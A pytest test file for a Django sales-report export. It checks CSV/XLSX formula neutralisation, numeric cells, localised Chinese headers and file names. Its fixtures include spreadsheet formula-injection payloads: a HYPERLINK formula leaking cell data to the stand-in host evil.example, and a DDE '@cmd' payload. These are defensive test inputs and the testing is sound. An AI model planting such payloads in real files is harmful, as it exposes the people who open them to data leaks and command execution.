"""The report files: text that a spreadsheet would run as a formula is neutralised with a
leading quote in CSV and XLSX, numbers stay numbers (a negative amount too), headers
are in the reader's language, CSV starts with a byte order mark, file names carry
the report and the period."""

import csv
import datetime
import io
from decimal import Decimal as D

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from sales.reports import exports
from sales.reports import selectors as reports
from tests.sales import test_reports
from tests.sales.helpers import customer, sale

world = test_reports.world  # the fixture, shared with the selector tests

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def hostile(org, world):
    """Customers and a product named like formulas, with a return (negative amount)."""
    day = datetime.date(2026, 6, 3)
    evil = customer(org.salesperson, name=EVIL, external_id="C-EVIL")
    at = customer(org.salesperson, name="@cmd|' /C calc'!A0", external_id="C-AT")
    plus = customer(org.salesperson, name="+SUM(1,2)", external_id="C-PLUS")
    sale(day, evil, "80", [(org.salesperson, 100)], product="-2+3", category="=cat")
    sale(day, at, "-35.50", [(org.salesperson, 100)], quantity=D(-1), gross_margin=D(-4))
    sale(day, plus, "12", [(org.salesperson, 100)], product="\tTabbed")
    return world


def june(world):
    return reports.report_range(start=datetime.date(2026, 6, 1), end=datetime.date(2026, 6, 30))


def csv_rows(response):
    body = b"".join(response.streaming_content)
    assert body[:3] == b"\xef\xbb\xbf"  # Excel opens it as UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


def by_customer(org, world, file_format, client=None):
    return (client or client_for(org)).get(
        reverse("sales:report-sales-export"),
        {
            "by": "customer",
            "start": "2026-06-01",
            "end": "2026-06-30",
            "format": file_format,
            "sort": "label",
        },
    )


def client_for(org):
    from django.test import Client

    client = Client()
    client.force_login(org.salesperson)
    return client


def test_csv_neutralises_formula_text(org, hostile):
    rows = csv_rows(by_customer(org, hostile, "csv"))
    names = [r[0] for r in rows[1:-1]]
    assert names == sorted(["'" + EVIL, "'@cmd|' /C calc'!A0", "'+SUM(1,2)"], key=lambda n: n[1:])
    amounts = {r[0]: r[1] for r in rows[1:-1]}
    assert amounts["'@cmd|' /C calc'!A0"] == "-35.50"  # a negative number is no formula
    assert rows[-1][:2] == ["Total", "56.50"]


def test_xlsx_keeps_formula_text_as_text_and_numbers_as_numbers(org, hostile):
    sheet = xlsx_sheet(by_customer(org, hostile, "xlsx"))
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    evil = cells["'" + EVIL]
    assert evil[0].data_type == "s"  # text, not a formula
    at = cells["'@cmd|' /C calc'!A0"]
    assert at[0].data_type == "s"
    assert at[1].data_type == "n" and at[1].value == -35.5  # negative stays numeric
    assert at[1].number_format == "#,##0.00"
    assert at[3].value == -1 and at[3].data_type == "n"  # the quantity
    assert cells["Total"][1].value == 56.5
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_product_and_category_cells_are_neutralised_too(org, hostile):
    report = reports.sales_report(user=org.department, by="product", date_range=june(hostile))
    table = exports.sales_table(report)
    firsts = {row[0]: row[1] for row in table.rows[:-1]}
    assert firsts["-2+3"] == "=cat"  # raw in the table...
    response = exports.csv_response(table)
    rows = csv_rows(response)
    cells = {r[0]: r[1] for r in rows[1:-1]}
    assert cells["'-2+3"] == "'=cat"  # ...neutralised in the file
    assert "'\tTabbed" in cells
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes(table))).active
    values = [c.value for row in sheet.iter_rows(min_row=2) for c in row[:2]]
    assert "'-2+3" in values and "'=cat" in values


def test_headers_are_in_the_readers_language(client_as, org, hostile):
    client = client_as("department")
    client.cookies["django_language"] = "zh-hans"
    response = client.get(
        reverse("sales:report-sales-export"), {"by": "unit", "period": hostile.year.pk}
    )
    header = csv_rows(response)[0]
    assert header[:6] == ["组织单元", "编码", "金额", "毛利", "数量", "回款金额"]
    response = client.get(
        reverse("sales:report-sales-export"),
        {"by": "person", "period": hostile.year.pk, "format": "xlsx"},
    )
    sheet = xlsx_sheet(response)
    assert [c.value for c in next(sheet.iter_rows(max_row=1))][:3] == ["人员", "用户名", "金额"]
    assert sheet["A1"].font.b
    response = client.get(reverse("sales:report-variance-export"), {"format": "csv"})
    assert csv_rows(response)[0][:3] == ["组织单元", "编码", "销售目标"]


def test_chinese_unit_names_survive_both_formats(client_as, org, hostile):
    from org.models import OrgUnit

    OrgUnit.objects.filter(pk=org.east.pk).update(name_zh="华东区")
    client = client_as("department")
    client.cookies["django_language"] = "zh-hans"
    query = {"by": "unit", "period": hostile.year.pk}
    rows = csv_rows(client.get(reverse("sales:report-sales-export"), query))
    assert "华东区" in [r[0] for r in rows]
    sheet = xlsx_sheet(
        client.get(reverse("sales:report-sales-export"), {**query, "format": "xlsx"})
    )
    assert "华东区" in [row[0].value for row in sheet.iter_rows()]


def test_file_names_carry_the_report_and_the_period(org, hostile):
    quarter = reports.DateRange(
        datetime.date(2026, 4, 1),
        datetime.date(2026, 6, 30),
        hostile.year.fiscal_year.periods.get(kind="quarter", number=2),
    )
    report = reports.sales_report(user=org.department, by="month", date_range=quarter)
    response = exports.report_response(exports.sales_table(report), "xlsx")
    assert response["Content-Disposition"] == (
        'attachment; filename="sales-by-month-FY2026-Q2.xlsx"'
    )
    variance = reports.variance_report(
        user=org.department, metric=hostile.revenue, period=hostile.year, owners="person"
    )
    response = exports.report_response(exports.variance_table(variance), "csv")
    assert response["Content-Disposition"] == (
        'attachment; filename="variance-revenue-person-FY2026.csv"'
    )
    assert response.streaming


def test_variance_file_leaves_missing_targets_empty_and_numbers_numeric(org, hostile):
    report = reports.variance_report(
        user=org.supervisor, metric=hostile.revenue, period=hostile.year, owners="person"
    )
    table = exports.variance_table(report)
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes(table))).active
    rows = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    assert rows["sue"][2].value is None  # no target
    sam = rows["sam"]
    # 210.01 + June's 80 - 35.50 + 12 = 266.51 against 300
    assert [c.value for c in sam[2:]] == [300, 266.51, -33.49, 88.8]
    assert all(c.data_type == "n" for c in sam[2:])
    assert sam[5].number_format == "0.0"
    csv_text = "".join(exports._csv_lines(table))
    assert ",sue,,0.00,,\r\n" in csv_text  # no target: empty cells, not zeros
